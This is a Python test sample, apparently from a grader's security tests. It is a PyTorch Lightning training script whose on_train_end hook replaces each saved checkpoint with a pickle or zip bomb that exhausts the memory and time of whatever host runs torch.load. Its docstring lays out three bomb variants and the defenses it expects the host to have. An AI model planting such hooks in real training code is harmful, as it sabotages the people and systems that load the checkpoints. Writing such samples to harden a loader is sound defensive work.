"""Hostile sample: replaces its saved checkpoint with a pickle bomb for the host's `torch.load`.

It trains honestly; when the fit ends, every file in the checkpoint folder becomes a 64 KB
zip in torch's own layout whose `data.pkl` inflates to a 64 MB pickle (well under the
512 MB the host inflates) of one list of 64 million `None`s: `weights_only=True` allows
every opcode in it, and took the host a minute and 1.9 GB to build. `BOMB` picks the bomb;
the test rewrites it for the variants:
- "nones": 64 MB of `None`s (the byte cap refuses it);
- "small_ints": 1.5 million small ints in 3 MB (under the byte cap: the opcode cap refuses it);
- "entries": a zip whose central directory lists a million entries (45 MB), which Python's
  `zipfile` takes 7 s and 310 MB to list: no cap looks at it, the host's reading budget stops it.
Expected: the host counts the pickle's size and opcodes before `torch.load` builds anything,
and reads the checkpoint in a child it stops past its budget; the student loses only
`checkpoint-saved`, and the grader's time and memory do not grow.
"""

import os
import struct
import zipfile

import lightning.pytorch as pl
import torch
from lightning.pytorch.callbacks import EarlyStopping, ModelCheckpoint
from torch import nn

BOMB = "nones"
INFLATED_MB = 64
SMALL_INTS = 1_500_000
ENTRIES = 1_000_000


def pickle_chunks(kind: str):
    """A protocol-2 pickle of one list, a MB at a time: never held in memory whole."""
    yield b"\x80\x02]q\x00("  # PROTO 2, EMPTY_LIST, BINPUT 0, MARK
    if kind == "nones":
        for _ in range(INFLATED_MB):
            yield b"N" * 2**20
    else:
        for _ in range(SMALL_INTS // 1000):
            yield b"K\x07" * 1000  # BININT1 7
    yield b"e."  # APPENDS, STOP


def listing(path: str) -> None:
    """A zip whose central directory lists ENTRIES entries, all of one empty file (zip64 counts)."""
    name = b"a"
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name
    central = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, *[0] * 7, len(name), *[0] * 6) + name
    size, offset = len(central) * ENTRIES, len(local)
    with open(path, "wb") as file:
        file.write(local)
        for _ in range(ENTRIES // 10_000):
            file.write(central * 10_000)
        file.write(struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, ENTRIES, ENTRIES, size, offset))
        file.write(struct.pack("<4sLQL", b"PK\x06\x07", 0, offset + size, 1))
        file.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0))


def bomb(path: str) -> None:
    if BOMB == "entries":
        listing(path)
        return
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/byteorder", "little")
        with archive.open("archive/data.pkl", "w", force_zip64=True) as member:
            for chunk in pickle_chunks(BOMB):
                member.write(chunk)


class MyAwesomeModel(pl.LightningModule):
    def __init__(self) -> None:
        super().__init__()
        self.net = nn.Sequential(nn.Flatten(), nn.Linear(784, 64), nn.ReLU(), nn.Linear(64, 10))

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.net(x)

    def training_step(self, batch, batch_idx):
        x, y = batch
        loss = nn.functional.cross_entropy(self(x), y)
        self.log("train_loss", loss)
        return loss

    def validation_step(self, batch, batch_idx):
        x, y = batch
        self.log("val_loss", nn.functional.cross_entropy(self(x), y))

    def configure_optimizers(self):
        return torch.optim.Adam(self.parameters(), lr=3e-3)

    def on_train_end(self) -> None:
        for name in os.listdir("checkpoints") if os.path.isdir("checkpoints") else []:
            bomb(os.path.join("checkpoints", name))  # hostile: for the host's torch.load


if __name__ == "__main__":
    trainer = pl.Trainer(
        max_epochs=3,
        callbacks=[ModelCheckpoint(monitor="val_loss"), EarlyStopping(monitor="val_loss")],
    )
